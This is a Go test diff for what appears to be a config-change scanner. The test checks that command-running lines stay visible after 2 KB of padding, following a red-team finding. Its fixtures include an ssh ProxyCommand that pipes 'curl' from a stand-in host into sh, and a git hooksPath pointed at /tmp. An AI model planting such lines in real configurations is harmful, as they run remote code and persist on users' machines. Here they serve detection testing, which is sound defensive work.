@@ -183,3 +183,49 @@ func TestDiffScanBudgetCounted(t *testing.T) {
 		t.Errorf("dropped %d, want 1 (the content search's cut): %+v", dropped, evs)
 	}
 }
+
+// A configuration that runs a command keeps the line that does, wherever
+// it is in the file (red team, session 18: hooksPath and ProxyCommand
+// after 2 KB of comment were past the KiB an event kept, and gave no
+// finding); more such lines than kept make the file not read whole.
+func TestDiffConfigLines(t *testing.T) {
+	pad := "# " + strings.Repeat("x", 2000) + "\n"
+	files := map[string][]byte{
+		"/home/a/.gitconfig": []byte("[user]\n\tname = Dana\n" + pad + "[core]\n\thooksPath = /tmp/.h\n"),
+		"/home/a/.ssh/config": []byte("Host *\n" + pad + strings.Repeat("# ProxyCommand is not here\n", 40) +
+			"  ProxyCommand sh -c 'curl -s http://x.example/a|sh'\n"),
+		"/home/a/.aws/config": func() []byte {
+			b := []byte("[default]\n")
+			for i := 0; i < 40; i++ {
+				b = fmt.Appendf(b, "[profile p%d]\ncredential_process = /bin/true %d\n", i, i)
+			}
+			return b
+		}(),
+	}
+	after := Snapshot{}
+	for p, b := range files {
+		after[p] = FileState{Size: int64(len(b)), Ino: uint64(len(p))}
+	}
+	read := func(p string, off, n int64) ([]byte, error) {
+		b := files[p]
+		return b[min(off, int64(len(b))):min(off+n, int64(len(b)))], nil
+	}
+	d := &Differ{Deadline: time.Now().Add(time.Minute), Read: func(p string, n int64) ([]byte, error) { return read(p, 0, n) }, ReadAt: read}
+	evs, _ := d.Diff(Snapshot{}, after)
+	want := map[string]bool{"/home/a/.gitconfig": false, "/home/a/.ssh/config": false, "/home/a/.aws/config": false}
+	for _, e := range evs {
+		switch e.Path {
+		case "/home/a/.gitconfig":
+			want[e.Path] = strings.Contains(e.Data, "hooksPath = /tmp/.h") && !strings.Contains(e.Detail, NotReadWhole)
+		case "/home/a/.ssh/config":
+			want[e.Path] = strings.Contains(e.Data, "ProxyCommand sh -c") && !strings.Contains(e.Detail, NotReadWhole)
+		case "/home/a/.aws/config":
+			want[e.Path] = strings.HasSuffix(e.Detail, NotReadWhole) // 40 lines: past the bound
+		}
+	}
+	for p, ok := range want {
+		if !ok {
+			t.Errorf("%s: the command line is not kept (or a cut file not said so): %+v", p, evs)
+		}
+	}
+}
